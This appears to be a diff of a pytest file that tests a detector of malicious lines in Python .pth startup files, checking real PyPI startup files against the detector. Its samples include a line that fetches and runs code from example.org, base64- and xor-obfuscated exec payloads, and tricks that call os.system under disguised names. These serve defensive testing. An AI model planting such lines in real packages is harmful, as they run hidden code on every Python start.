@@ -1,24 +1,26 @@
 """The startup files that projects of PyPI ship are no attack where pip has installed them.
 
-Each is byte for byte as in the wheel of that version; `pip download PROJECT==VERSION` has it again.
+Each is byte for byte as in the wheel of that version (see `tests.doctor.startup_files`).
 """
 
 import base64
 import hashlib
-import json
+import types
 import zipfile
 from pathlib import Path
 
 import pytest
 
 from tests import wheelhouse
+from tests.doctor import startup_files
 from tests.doctor.bench import Bench
-from zippath.doctor.suspicious_code import module_traits, suspicious_traits
+from zippath.doctor.suspicious_code import is_of_tool, module_traits, suspicious_traits
 
-FILES = json.loads(Path(__file__).with_name("startup_files_of_pypi.json").read_text())
+FILES = startup_files.rows()
 CODE = [
-    pytest.param(line, one["file"], id=f"{one['project']} {number}")
+    pytest.param(line, one["file"], id=f"{one['project']} {one['version']} {number}")
     for one in FILES
+    if one["file"].endswith(".pth")
     for number, line in enumerate(one["content"].splitlines(), 1)
     if line.startswith("import")
 ]
@@ -34,20 +36,23 @@ def row(name, content):
 def installed(tmp_path):
     """The newest of each in one environment; no start runs them, as their modules are not there."""
     bench = Bench(tmp_path)
-    newest = {one["project"]: one for one in FILES}
-    for one in newest.values():
-        name, content = one["file"], one["content"]
-        bench.pth(content, name)
-        bench.distribution(one["project"], one["version"], record=row(name, content))
+    versions = {one["project"]: one["version"] for one in FILES}
+    for project, version in versions.items():
+        files = {one["file"]: one["content"] for one in FILES
+                 if (one["project"], one["version"]) == (project, version)}  # fmt: skip
+        for name, content in files.items():
+            bench.pth(content, name)
+        record = "".join(row(name, content) for name, content in files.items())
+        bench.distribution(project, version, record=record)
     return bench
 
 
 def test_all_of_them_installed_are_no_warning(installed):
     codes = ("ZP208", "ZP209", "ZP211")
     subject = installed.subject()
-    assert {file["file"] for file in FILES} == {
-        Path(file.path).name for file in subject.ledger.startup_files
-    }
+    read = {Path(file.path).name for file in subject.ledger.startup_files}
+    assert {one["file"] for one in FILES if one["file"].endswith(".pth")} <= read
+    assert 50 <= len({one["project"] for one in FILES})
 
     found = [one for one in installed.findings() if one.code in codes]
 
@@ -68,6 +73,22 @@ def test_a_line_of_theirs_is_no_attack(line, file):
         "import urllib.request as r; exec(r.urlopen('https://example.org').read())",
         "import os; exec('pass\u200b')",
         "import x\u202e",
+        # litellm 1.82.8 of March 2026: a second python decodes and runs the rest
+        "import os, subprocess as s; s.Popen(['python', '-c', 'exec(base64.b64decode(X))'])",
+        # openaii and transfomers of 2026: base64 of what an xor hides, once for each machine
+        "import os, base64 as b; exec(''.join(chr(ord(c) ^ 0x5A) for c in b.b64decode('Kjs=')))",
+        # what the same does without a word that names it
+        "import os as o; o.system('true')",
+        "import sys; from os import system; system('true')",
+        "import os; getattr(os, 'sys' + 'tem')('true')",
+        "import os; getattr(os, 'metsys'[::-1])('true')",
+        "import os; getattr(os, os.environ['X'])('true')",
+        "import sys; __import__('o' + 's')",
+        "import sys; __import__(sys.argv[0])",
+        "import os; exec(open(os.path.expanduser('~/.cache/x')).read())",
+        "import helper; exec(helper.DATA)",
+        "import pickle; pickle.load(open('x', 'rb'))",
+        "import codecs; exec(codecs.decode('cnff', 'rot13'))",
     ],
 )
 def test_what_hides_or_reaches_out_is_one_whoever_brought_it(line):
@@ -78,16 +99,29 @@ def test_what_hides_or_reaches_out_is_one_whoever_brought_it(line):
 @pytest.mark.slow
 @pytest.mark.parametrize("one", FILES, ids=lambda one: f"{one['project']}-{one['version']}")
 def test_the_table_says_what_the_wheels_have(one):
-    pattern = f"{one['project']}-{one['version']}-*.whl"
     try:
-        if not any(wheelhouse.place().glob(pattern)):
-            wheelhouse.fetch(f"{one['project']}=={one['version']}")
+        wheel = startup_files.fetched(one["project"], one["version"], one.get("platform"))
     except wheelhouse.Unavailable as reason:
         pytest.skip(str(reason))
-    with zipfile.ZipFile(next(wheelhouse.place().glob(pattern))) as file:
-        below = [name for name in file.namelist() if name.endswith(f"/{one['file']}")]
-        [member] = below or [one["file"]]
-        assert one["content"] == file.read(member).decode()
+    assert one["content"] == startup_files.in_wheel(wheel)[one["file"]]
+
+
+@pytest.mark.network
+@pytest.mark.parametrize("name", ["zope", "plone.app", "a.b.c"])
+def test_what_setuptools_writes_for_any_namespace(name):
+    """The hundreds of projects with such a file have it from here: it is a template."""
+    try:
+        wheel = wheelhouse.wheel("setuptools==59.8.0")
+    except wheelhouse.Unavailable as reason:
+        pytest.skip(str(reason))
+    with zipfile.ZipFile(wheel) as file:
+        module = types.ModuleType("namespaces")
+        exec(file.read("setuptools/namespaces.py"), vars(module))
+
+    line = module.Installer()._gen_nspkg_line(name)
+
+    assert is_of_tool(line)
+    assert not is_of_tool(line.replace("import sys", "import this, sys", 1))
 
 
 @pytest.mark.parametrize(
